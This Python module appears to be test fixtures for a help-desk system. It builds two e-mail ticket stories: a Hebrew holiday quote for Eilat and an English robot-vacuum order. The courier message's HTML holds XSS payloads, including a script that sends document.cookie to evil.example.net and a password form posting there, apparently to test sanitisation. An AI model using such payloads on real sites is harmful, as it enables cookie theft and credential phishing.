"""Stories told by e-mail, with the HTML that mail programs write."""
from record import *

PIXEL = '<img src="https://track.mailer.example.com/o.gif?u=000000&amp;m=26-1180" width="1" height="1" alt="" style="display:none">'

OFFER_HTML = """<html dir="rtl"><head><meta charset="utf-8"><style type="text/css">body{font-family:Arial;color:#1d2b33} .price{color:#0a7a3d;font-weight:bold} .x{position:absolute;left:-9999px}</style>
<script>window.dataLayer=window.dataLayer||[];dataLayer.push({event:"open",offer:"26-1180"})</script></head>
<body dir="rtl"><div style="background:#e7f1f1;padding:12px"><h2>הצעת מחיר 26-1180</h2>
<p>שלום מיכל,</p><p>שמחים לצרף הצעה לחופשה באילת, <b>4 לילות</b>, 22/03–26/03/2026:</p>
<table border="1" cellpadding="6" style="border-collapse:collapse"><thead><tr><th>פריט</th><th>כמות</th><th>מחיר</th><th>סה״כ</th></tr></thead><tbody>
<tr><td>חדר משפחתי, חצי פנסיון</td><td>1</td><td>₪3,480</td><td>₪3,480</td></tr>
<tr><td>טיסה חיפה–אילת, הלוך ושוב</td><td>4</td><td>₪390</td><td>₪1,560</td></tr>
<tr><td>שיט ושנורקל (<i dir="ltr">Coral Bay</i>)</td><td>4</td><td>₪145</td><td>₪580</td></tr>
<tr><td colspan="3"><b>סך הכול כולל מע״מ</b></td><td class="price">₪5,620</td></tr></tbody></table>
<p>כלול במחיר:</p><ul><li>ארוחת בוקר וערב</li><li>העברות משדה התעופה<ul><li>הלוך: 22/03, 09:40</li><li>חזור: 26/03, 17:15</li></ul></li><li>ביטול חינם עד 14 יום לפני הנסיעה</li></ul>
<p><img src="cid:100226073011beachsunsetuvyhqpds.jpg" alt="שקיעה על החוף" width="420"></p>
<p>לאישור: <a href="https://www.sahar.example.com/he/offers/26-1180?pax=4&amp;from=22/03">לחצו כאן</a> או צלצלו <a href="tel:+97235550100">03-555-0100</a>.</p>
<p>בברכה,<br>דנה פרץ<br><span style="color:#667;font-size:11px">סהר נופש ואלקטרוניקה לבית</span></p></div>""" + PIXEL + "</body></html>"

REPLY_HTML = """<div dir="rtl">שלום דנה,<div><br></div><div>ההצעה נראית <b>מצוין</b>! שתי שאלות:</div><div><ol><li>אפשר להוסיף לילה (עד 27/03)? כמה זה יעלה?</li><li>יש בריכה מחוממת? הילדים בני 4 ו-7 😄</li></ol></div><div>תודה,<br>מיכל אדלר</div></div><br>
<div class="gmail_quote"><div dir="rtl" class="gmail_attr">‫בתאריך יום ג׳, 10 בפבר׳ 2026 ב-9:30 מאת ‪Sahar‬‏ &lt;‪<a href="mailto:orders@sahar.example.com">orders@sahar.example.com</a>‬‏&gt;:‬<br></div>
<blockquote class="gmail_quote" style="margin:0px 0.8ex 0px 0px;border-right:1px solid rgb(204,204,204);padding-right:1ex"><div dir="rtl"><p>שלום מיכל,</p><p>שמחים לצרף הצעה לחופשה באילת, <b>4 לילות</b>, 22/03–26/03/2026. סך הכול: ₪5,620.</p></div>
<blockquote class="gmail_quote" style="border-right:1px solid #ccc"><div dir="rtl">אשמח להצעה לאילת, זוג + 2 ילדים, סוף מרץ.</div></blockquote></blockquote></div>"""

LAST_HTML = """<div dir="rtl"><p>שלום מיכל,</p><p>לילה נוסף: <s>₪870</s> <b>₪790</b>, ובסך הכול <u>₪6,410</u>. הבריכה מחוממת ל-28°C 🏊🏼‍♀️, ויש בריכת פעוטות.</p>
<p>הטיסה חזור עודכנה: <code>XS 412</code>, 27/03 בשעה 18:05.</p><hr><p style="font-size:11px">This message and any attachment are confidential.</p></div>"""


def eilat():
    t = Ticket(220689377, ORDERS, "Mail", "2026-02-10T05:12:44", dates="ms", owner="dana", tags=["הצעת מחיר", "אילת"], fields=["26-1180", "אילת, 4 לילות", "", "5620", "חצי פנסיון"])
    c = t.client("מיכל אדלר", "michal.adler@example.co.il", sub="MailTo")
    t.client("יונתן אדלר", "yonatan@example.co.il", sub="MailCc")
    a = t.agent("dana", sub="MailTo")
    t.start()
    t.say(c, 0, "אשמח להצעה לאילת, זוג + 2 ילדים, סוף מרץ.\nתקציב עד ₪6,000.\n\nתודה,\nמיכל אדלר, 055-555-0131", html='<div dir="rtl">אשמח להצעה לאילת, זוג + 2 ילדים, סוף מרץ.<br>תקציב עד ₪6,000.<br><br>תודה,<br>מיכל אדלר, <span dir="ltr">055-555-0131</span></div>')
    t.say(a, "2h17m", "שלום מיכל,\nשמחים לצרף הצעה לחופשה באילת, 4 לילות, 22/03–26/03/2026.\nסך הכול כולל מע״מ: ₪5,620", html=OFFER_HTML,
          files=[attachment("beach", "Image", "beach-sunset.jpg", embedded=True), attachment("offer", "Document", "הצעת מחיר 26-1180 אילת.pdf")])
    t.say(c, "9h", "שלום דנה,\nההצעה נראית מצוין! שתי שאלות:\n1. אפשר להוסיף לילה (עד 27/03)? כמה זה יעלה?\n2. יש בריכה מחוממת? הילדים בני 4 ו-7 😄\nתודה, מיכל אדלר", html=REPLY_HTML)
    t.say(a, "14h", "שלום מיכל, לילה נוסף: ₪790, ובסך הכול ₪6,410. הבריכה מחוממת ל-28°C.", html=LAST_HTML, status="Delivered")
    t.say(c, "1d", "מאשרים! נתראה באילת 🌴", html="<div dir=\"rtl\">מאשרים! נתראה באילת 🌴</div>")
    t.add("1h", "Note", a, "הזמנה SHR4M1 אושרה, תשלום ב-3 תשלומים של ₪2,136.67")
    t.close("2m", a)
    return t


OUTLOOK = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head><meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}</style><![endif]--><style><!-- p.MsoNormal {margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;} --></style></head>
<body lang="EN-GB" link="#0563C1" vlink="#954F72"><div class="WordSection1"><p class="MsoNormal">Dear Sahar team,<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Please find our order for the new offices attached. In short:<o:p></o:p></p>
<table class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0"><tr><td width="200" style="background:#DEEAF6"><p class="MsoNormal"><b>Item</b></p></td><td><p class="MsoNormal"><b>Qty</b></p></td><td><p class="MsoNormal"><b>Unit price</b></p></td><td><p class="MsoNormal"><b>Total</b></p></td></tr>
<tr><td><p class="MsoNormal">Robot vacuum SV-90</p></td><td><p class="MsoNormal" align="right">12</p></td><td><p class="MsoNormal" align="right">₪1,190.00</p></td><td><p class="MsoNormal" align="right">₪14,280.00</p></td></tr>
<tr><td><p class="MsoNormal">HEPA filter SF-9</p></td><td><p class="MsoNormal" align="right">24</p></td><td><p class="MsoNormal" align="right">₪39.00</p></td><td><p class="MsoNormal" align="right">₪936.00</p></td></tr></table>
<p class="MsoListParagraph" style="text-indent:-18.0pt"><span style="mso-list:Ignore">·<span style="font:7.0pt 'Times New Roman'">&nbsp;&nbsp; </span></span>Delivery: 14 Harbour Lane, ground floor, before 1 April<o:p></o:p></p>
<p class="MsoListParagraph" style="text-indent:-18.0pt"><span style="mso-list:Ignore">·<span style="font:7.0pt 'Times New Roman'">&nbsp;&nbsp; </span></span>Invoice in Hebrew (חשבונית מס), please<o:p></o:p></p>
<p class="MsoNormal"><span style="color:#1F3864">Oliver Whitfield<br>Harbor Desk Ltd · +1-202-555-0143</span><o:p></o:p></p></div></body></html>"""

INVOICE = """<html><body><p>Dear Oliver,</p><p>Thank you. We give <strong>5%</strong> off from ten units on. Attached: the invoice, our terms and your order, confirmed.</p>
<pre>Subtotal   15,216.00
Discount     -760.80
VAT 18%     2,601.94
---------------------
Total ILS  17,057.14</pre><p><img src="cid:logo.png" alt="Sahar" width="160"></p></body></html>"""

THANKS = """<div class="WordSection1"><p class="MsoNormal">All arrived, many thanks.</p><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b>From:</b> Sahar Orders &lt;orders@sahar.example.com&gt;<br><b>Sent:</b> Tuesday, March 24, 2026 2:19 PM<br><b>To:</b> Oliver Whitfield &lt;oliver@harbordesk.example.com&gt;<br><b>Subject:</b> RE: Order for the new offices</p></div><p class="MsoNormal">Dear Oliver,<br>Thank you. We give 5% off from ten units on.</p></div>"""

LONG = ("We are moving our whole company into a new building by the port, six floors, and the facility team (that is me and, on Thursdays, Ruth) has to make it livable before the first of April.\n\n"
        "We looked at four suppliers. Two of them do not deliver on site, one only sells to resellers, and you are the fourth, with the only robot that climbs a 22 mm door sill. I measured ours: 19 mm to 21 mm, so we are inside the limit, if barely. Should a sill turn out higher, we will send the unit for that floor back within the 14 days.\n\n"
        "For the books: our procurement needs one invoice, not twelve; a delivery note per floor; and the warranty in our company's name. The warranty has to start with the day of installation and not with the day of dispatch, since the builders may well be late (they have been late on every single floor so far).\n\n"
        "One more thing. The last time we ordered from you, in 2024, the courier left a pallet in the rain. Nothing was damaged, but I would like to avoid the experience.")


COURIER = """<BODY onload="alert(1)"><font face="Courier New" size=2>Delivered 26/03 11:05<BR>12 + 24 pcs<BR>signed: R. Stein</FONT><P><A HREF="javascript:alert('x')">proof of delivery</A>
<script>document.location="https://evil.example.net/?c="+document.cookie</script><img src=x onerror="alert(2)"><iframe src="https://evil.example.net/frame"></iframe><form action="https://evil.example.net/login"><input name="password"></form></BODY>"""


def offices():
    t = Ticket(220738115, ORDERS, "Mail", "2026-03-24T09:02:11", dates="plain", old=True, owner="amy", culture="en-GB", tags=["B2B", "invoice"], fields=["PO-2026-0311", "Robot vacuums", "Harbor Desk Ltd", "17057.14", "net 30", "EXW", "14 Harbour Lane", "floors 1–6", "מס׳ ספק 0042", "Ruth on Thursdays"])
    c = t.client("Oliver Whitfield", "oliver@harbordesk.example.com", sub="MailTo")
    t.client("Ruth (facilities)", "ruth@harbordesk.example.com", sub="MailCc", display=None)
    t.client("archive", "archive@harbordesk.example.com", sub="MailBcc")
    a = t.agent("amy", sub="MailTo")
    t.start()
    t.say(c, 0, "Dear Sahar team,\nPlease find our order for the new offices attached. 12 x SV-90, 24 x SF-9.\nOliver Whitfield", html=OUTLOOK, files=[attachment("order_xlsx", "Document", "PO-2026-0311.xlsx")])
    t.say(c, "11m", LONG)
    t.say(a, "3h7m", "Dear Oliver,\nThank you. We give 5% off from ten units on. Attached: the invoice, our terms and your order, confirmed.\nTotal: ILS 17,057.14 including 18% VAT", html=INVOICE,
          files=[attachment("logo", "Image", "logo.png", embedded=True), attachment("invoice", "Document", "חשבונית מס 2026-04417.pdf"), attachment("terms_docx", "Document", "Terms of supply.docx")])
    t.say(c, "20h", "My card, for the courier.", files=[attachment("contact", "File", "Oliver Whitfield.vcf")])
    t.say(t.client("Courier desk", "desk@courier.example.org", sub="MailTo", listed=False), "1d", "Delivered 26/03 11:05, 12 + 24 pcs, signed R. Stein", html=COURIER)
    t.say(c, "5h", "All arrived, many thanks.", html=THANKS)
    t.close("15m", a)
    return t


STORIES = [eilat, offices]
